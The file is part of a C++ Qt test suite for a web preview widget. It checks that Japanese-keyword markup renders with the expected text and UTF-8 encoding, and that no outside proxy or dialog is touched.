        auto *pane = static_cast<WebPreview *>(form.Brw);
        const auto js = [&](const char *script) {
            return answer<QVariant>([&](const auto &then) { pane->view()->page()->runJavaScript(QString::fromLatin1(script), then); }).toString();
        };
        form.MainText->setText(QStringLiteral("＜ページ＞＜全体　背景色＝「白」＞見出しの文＜全体終わり＞＜ページ終わり＞"));
        QTRY_COMPARE_WITH_TIMEOUT(js("document.body.innerText"), QStringLiteral("見出しの文"), 20000);
        form.MainText->setText(QStringLiteral("＜ページ＞＜ヘッド＞＜メタ情報　文字コード＝「utf-8」＞＜ヘッド終わり＞"
                                              "＜全体＞波〜と絵😀＜全体終わり＞＜ページ終わり＞"));
        QTRY_COMPARE_WITH_TIMEOUT(js("document.body.innerText"), QStringLiteral("波〜と絵😀"), 20000);
        QCOMPARE(js("document.characterSet"), QStringLiteral("UTF-8"));
        QVERIFY(boxes.calls.isEmpty());
    }

private:
    // A proxy as the desktop may configure one: nothing is to reach it.
    Outside m_proxy;
};

int main(int argc, char *argv[])
{
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    registerLocalPageScheme();
    QApplication app(argc, argv);
    WebPreviewTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "WebPreviewTest.moc"
